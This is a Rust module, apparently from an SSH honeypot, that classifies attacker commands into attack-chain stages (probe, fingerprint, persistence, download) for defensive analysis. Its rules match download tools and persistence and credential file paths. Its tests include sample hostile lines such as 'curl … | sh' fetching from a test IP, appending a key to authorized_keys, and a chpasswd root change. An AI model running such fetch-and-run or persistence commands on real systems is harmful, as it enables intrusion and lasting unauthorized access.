//! Where in the attack chain a session got: spray, probe, fingerprint, persistence, download,
//! tunnel.
//!
//! [`classify_command`] reads one raw command line as typed; the shell also reports the stages
//! of the commands it actually ran ([`Output::stages`](super::shell::Output::stages)), which
//! sees through `$(...)`, `sh -c '...'` and scripts the session wrote, and leaves out commands
//! an `&&`/`||` skipped. Both use the same per-command rules (`classify_words`).
//!
//! The rules, per simple command:
//! - **probe**: `echo`/`printf` whose output reaches the terminal (not redirected, last in its
//!   pipeline): a bot checking that commands run at all (`echo -e "\x6F\x6B"`, `echo ok`).
//! - **fingerprint**: reading what the host is: `uname`, `lscpu`, `nproc`, `free`, `w`,
//!   `uptime`, `df`, `ps`, `top`, `which`, `id`, `whoami`, `hostname`, `ifconfig`, `ip`,
//!   `crontab -l`, `history`, `env`, and reading `/proc/...`, `/etc/os-release`, `/etc/issue`,
//!   `/etc/passwd`, ... with any command.
//! - **persistence**: keeping the foothold: writing `authorized_keys`, `.bashrc`, `.profile`,
//!   `rc.local`, cron files, systemd units, `/etc/hosts.deny` or `/etc/ld.so.preload`
//!   (redirect, `cp`, `mv`, `tee`); `chattr`/`lockr` (locking those files); `chpasswd`,
//!   `passwd`, `useradd`, `usermod`; installing or removing a crontab (`crontab FILE`, `-`,
//!   `-r`, `-e`); and `pkill`/`kill`/`killall`. Killing processes is counted here because in
//!   the sessions seen it evicts a competing bot's miner or backdoor (`pkill -9 secure.sh`)
//!   so that this bot keeps the host to itself: it guards the foothold rather than probing or
//!   fetching anything.
//! - **download**: fetching or receiving a payload: `wget`, `curl`, `tftp`, `ftpget`,
//!   `busybox` with one of those applets, `scp -t` (the receiving end of an upload); and
//!   running a payload: a command named by path in a writable place (`./x`, `/tmp/.x`,
//!   `/dev/shm/...`) or `sh FILE`/`bash FILE`. A stateless reader of one line cannot know the
//!   file came from an earlier download, so running a local file counts as the "run" half of
//!   download-and-run.
//! - **spray** (authentication attempts) and **tunnel** (`direct-tcpip` channels) are protocol
//!   events the server sets; [`classify_command`] never returns them.

use super::shell;

/// One stage of the attack chain.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Stage {
    /// Password or key guessing (set by the server on authentication attempts).
    Spray,
    /// Liveness check: does a command run and answer.
    Probe,
    /// Reading what the host is (CPU, memory, OS, users, processes).
    Fingerprint,
    /// Keeping access: keys, passwords, cron, locked files, evicting competitors.
    Persistence,
    /// Fetching or running a payload.
    Download,
    /// Using the host as a relay (set by the server on `direct-tcpip` channels).
    Tunnel,
}

impl Stage {
    /// Every stage, in kill-chain order.
    pub const ALL: [Stage; 6] = [
        Stage::Spray,
        Stage::Probe,
        Stage::Fingerprint,
        Stage::Persistence,
        Stage::Download,
        Stage::Tunnel,
    ];

    /// Lower-case name: `"spray"`, `"probe"`, `"fingerprint"`, `"persistence"`, `"download"`,
    /// `"tunnel"`.
    pub fn as_str(self) -> &'static str {
        match self {
            Stage::Spray => "spray",
            Stage::Probe => "probe",
            Stage::Fingerprint => "fingerprint",
            Stage::Persistence => "persistence",
            Stage::Download => "download",
            Stage::Tunnel => "tunnel",
        }
    }

    fn bit(self) -> u8 {
        1 << (self as u8)
    }
}

/// A set of stages (one bit each).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Hash)]
pub struct StageSet(u8);

impl StageSet {
    /// The empty set.
    pub const EMPTY: StageSet = StageSet(0);

    /// Add `stage`.
    pub fn insert(&mut self, stage: Stage) {
        self.0 |= stage.bit();
    }

    /// Whether `stage` is in the set.
    pub fn contains(self, stage: Stage) -> bool {
        self.0 & stage.bit() != 0
    }

    /// Whether the set is empty.
    pub fn is_empty(self) -> bool {
        self.0 == 0
    }

    /// Every stage of `other` added to this one.
    pub fn union(self, other: StageSet) -> StageSet {
        StageSet(self.0 | other.0)
    }

    /// The stages in the set, in kill-chain order.
    pub fn iter(self) -> impl Iterator<Item = Stage> {
        Stage::ALL.into_iter().filter(move |s| self.contains(*s))
    }
}

impl std::ops::BitOrAssign for StageSet {
    fn bitor_assign(&mut self, rhs: StageSet) {
        self.0 |= rhs.0;
    }
}

impl FromIterator<Stage> for StageSet {
    fn from_iter<I: IntoIterator<Item = Stage>>(iter: I) -> Self {
        let mut s = StageSet::EMPTY;
        for st in iter {
            s.insert(st);
        }
        s
    }
}

/// How deep `sh -c` strings and `$(...)` are followed when classifying a line.
const MAX_DEPTH: usize = 4;

/// The stages one raw command line shows (never [`Stage::Spray`] or [`Stage::Tunnel`]).
/// Looks inside `$(...)`, backticks and `sh -c`/`bash -c` strings. Bounded as the shell's
/// parser is: the line is cut at [`shell::MAX_LINE`].
pub fn classify_command(line: &str) -> StageSet {
    classify_depth(line, 0)
}

fn classify_depth(line: &str, depth: usize) -> StageSet {
    let mut set = StageSet::EMPTY;
    if depth > MAX_DEPTH {
        return set;
    }
    let line = shell::cut(line, shell::MAX_LINE);
    for inner in shell::substitutions(line) {
        set |= classify_depth(inner, depth + 1);
    }
    for cmd in shell::simple_commands(line) {
        let words: Vec<&str> = cmd.words.iter().map(String::as_str).collect();
        let targets: Vec<&str> = cmd.writes.iter().map(String::as_str).collect();
        set |= classify_words(&words, &targets, cmd.to_terminal);
        // `sh -c '...'`: classify the string it runs.
        if let (Some(name), Some(flag), Some(inner)) = (words.first(), words.get(1), words.get(2)) {
            if matches!(base(name), "sh" | "bash" | "dash" | "busybox") && *flag == "-c" {
                set |= classify_depth(inner, depth + 1);
            }
        }
    }
    set
}

/// The last path component of a command name.
fn base(name: &str) -> &str {
    name.rsplit('/').next().unwrap_or(name)
}

/// Files whose change keeps an attacker in.
fn is_persistence_path(p: &str) -> bool {
    const NAMES: &[&str] = &[
        "authorized_keys",
        "authorized_keys2",
        ".bashrc",
        ".bash_profile",
        ".profile",
        "rc.local",
        "crontab",
        "hosts.deny",
        "hosts.allow",
        "ld.so.preload",
        "sudoers",
        "passwd",
        "shadow",
    ];
    let name = base(p);
    NAMES.contains(&name)
        || p.contains("/cron")
        || p.contains("/systemd/system")
        || p.contains("/init.d/")
        || p.contains("/.ssh")
        || p.starts_with(".ssh")
}

/// Files whose reading tells what the host is.
fn is_fingerprint_path(p: &str) -> bool {
    p.starts_with("/proc/")
        || matches!(
            p,
            "/etc/os-release"
                | "/etc/issue"
                | "/etc/lsb-release"
                | "/etc/debian_version"
                | "/etc/redhat-release"
                | "/etc/passwd"
                | "/etc/hostname"
                | "/etc/resolv.conf"
                | "/etc/hosts"
                | "/etc/shadow"
        )
}

/// Where dropped payloads are run from.
fn is_payload_path(name: &str) -> bool {
    name.starts_with("./")
        || [
            "/tmp/",
            "/var/tmp/",
            "/dev/shm/",
            "/run/",
            "/var/run/",
            "/mnt/",
            "/root/",
            "/home/",
        ]
        .iter()
        .any(|d| name.starts_with(d))
}

/// The stages of one simple command: its words (after expansion), the files its output is
/// written to, and whether its standard output reaches the terminal.
pub(crate) fn classify_words(words: &[&str], writes: &[&str], to_terminal: bool) -> StageSet {
    let mut set = StageSet::EMPTY;
    let words: Vec<&str> = words
        .iter()
        .copied()
        .skip_while(|w| shell::is_assignment(w))
        .collect();
    if writes.iter().any(|w| is_persistence_path(w)) {
        set.insert(Stage::Persistence);
    }
    let Some((&name, args)) = words.split_first() else {
        return set;
    };
    let cmd = base(name);
    // Wrappers: classify what they run.
    if matches!(
        cmd,
        "nohup" | "sudo" | "timeout" | "nice" | "command" | "exec" | "env"
    ) && !args.is_empty()
    {
        let rest = if cmd == "timeout" {
            args.get(1..).unwrap_or(&[])
        } else {
            args
        };
        let rest: Vec<&str> = rest
            .iter()
            .copied()
            .skip_while(|a| a.starts_with('-'))
            .collect();
        if !rest.is_empty() {
            return set.union(classify_words(&rest, writes, to_terminal));
        }
    }
    if cmd == "busybox" {
        if let Some((applet, rest)) = args.split_first() {
            let mut inner = vec![*applet];
            inner.extend_from_slice(rest);
            return set.union(classify_words(&inner, writes, to_terminal));
        }
        set.insert(Stage::Fingerprint);
        return set;
    }
    if args.iter().any(|a| is_fingerprint_path(a)) && !matches!(cmd, "echo" | "printf") {
        set.insert(Stage::Fingerprint);
    }
    match cmd {
        "echo" | "printf" if to_terminal && writes.is_empty() => set.insert(Stage::Probe),
        "uname" | "lscpu" | "nproc" | "free" | "w" | "who" | "uptime" | "df" | "ps" | "top"
        | "which" | "id" | "whoami" | "hostname" | "ifconfig" | "ip" | "history" | "env"
        | "lspci" | "dmidecode" | "last" | "lastlog" | "netstat" | "ss" | "getconf" | "arch"
        | "hostnamectl" | "lsb_release" | "nvidia-smi" | "type" | "whereis" => {
            set.insert(Stage::Fingerprint)
        }
        "crontab" => {
            if args.contains(&"-l") {
                set.insert(Stage::Fingerprint);
            } else {
                set.insert(Stage::Persistence);
            }
        }
        "chattr" | "lockr" | "chpasswd" | "passwd" | "useradd" | "adduser" | "usermod"
        | "pkill" | "kill" | "killall" => set.insert(Stage::Persistence),
        "cp" | "mv" | "tee" | "ln" | "install" if args.iter().any(|a| is_persistence_path(a)) => {
            set.insert(Stage::Persistence)
        }
        "wget" | "curl" | "tftp" | "ftpget" | "fetch" | "lwp-download" => {
            set.insert(Stage::Download)
        }
        "scp" if args.contains(&"-t") => set.insert(Stage::Download),
        "sh" | "bash" | "dash" if args.first().is_some_and(|a| !a.starts_with('-')) => {
            set.insert(Stage::Download)
        }
        _ if is_payload_path(name) => set.insert(Stage::Download),
        _ => {}
    }
    set
}

#[cfg(test)]
mod tests {
    use super::*;

    fn stages(line: &str) -> Vec<&'static str> {
        classify_command(line).iter().map(Stage::as_str).collect()
    }

    #[test]
    fn stage_set_basics() {
        let mut s = StageSet::EMPTY;
        assert!(s.is_empty());
        s.insert(Stage::Download);
        s.insert(Stage::Spray);
        assert!(s.contains(Stage::Spray) && !s.contains(Stage::Probe));
        assert_eq!(
            s.iter().collect::<Vec<_>>(),
            vec![Stage::Spray, Stage::Download]
        );
        let names: Vec<_> = Stage::ALL.iter().map(|s| s.as_str()).collect();
        assert_eq!(
            names,
            [
                "spray",
                "probe",
                "fingerprint",
                "persistence",
                "download",
                "tunnel"
            ]
        );
    }

    #[test]
    fn single_lines() {
        assert_eq!(stages(r#"echo -e "\x6F\x6B""#), ["probe"]);
        assert_eq!(stages("echo ok"), ["probe"]);
        assert_eq!(stages("uname -a"), ["fingerprint"]);
        assert_eq!(
            stages("cat /proc/cpuinfo | grep name | wc -l"),
            ["fingerprint"]
        );
        assert_eq!(stages("ls -lh $(which ls)"), ["fingerprint"]);
        assert_eq!(
            stages("echo key >> ~/.ssh/authorized_keys"),
            ["persistence"]
        );
        assert_eq!(stages("echo \"root:x\" | chpasswd | bash"), ["persistence"]);
        assert_eq!(
            stages("(crontab -l; echo x) | crontab -"),
            ["fingerprint", "persistence"]
        );
        assert_eq!(stages("busybox wget http://198.51.100.1/x"), ["download"]);
        assert_eq!(
            stages("sh -c 'curl -s http://198.51.100.1/x | sh'"),
            ["download"]
        );
        assert_eq!(stages("cd /tmp; ./x"), ["download"]);
        assert_eq!(stages("scp -t /tmp/x"), ["download"]);
        assert!(stages("cd /tmp; ls; rm -rf x").is_empty());
        for line in ["echo ok", "uname", "wget x", "chattr +i f"] {
            let s = classify_command(line);
            assert!(!s.contains(Stage::Spray) && !s.contains(Stage::Tunnel));
        }
    }

    /// The shared fixtures: each file's session shows the stage its name says.
    #[test]
    fn fixture_sessions_classify_to_their_stage() {
        let Some(dir) = shell::fixture_dir() else {
            eprintln!("SKIP: attack-session fixtures not present");
            return;
        };
        let expect = [
            ("probe.txt", Stage::Probe),
            ("fingerprint.txt", Stage::Fingerprint),
            ("persistence-key-injection.txt", Stage::Persistence),
            ("download-and-run.txt", Stage::Download),
        ];
        for (file, stage) in expect {
            let path = dir.join(file);
            let text = std::fs::read_to_string(&path).unwrap();
            let session: StageSet = text
                .lines()
                .filter(|l| !l.trim().is_empty() && !l.starts_with('#'))
                .map(classify_command)
                .fold(StageSet::EMPTY, StageSet::union);
            assert!(
                session.contains(stage),
                "{file}: {:?}",
                session.iter().collect::<Vec<_>>()
            );
            // The probe and fingerprint sessions are nothing else.
            if matches!(stage, Stage::Probe | Stage::Fingerprint) {
                assert_eq!(session.iter().collect::<Vec<_>>(), vec![stage], "{file}");
            }
        }
    }
}
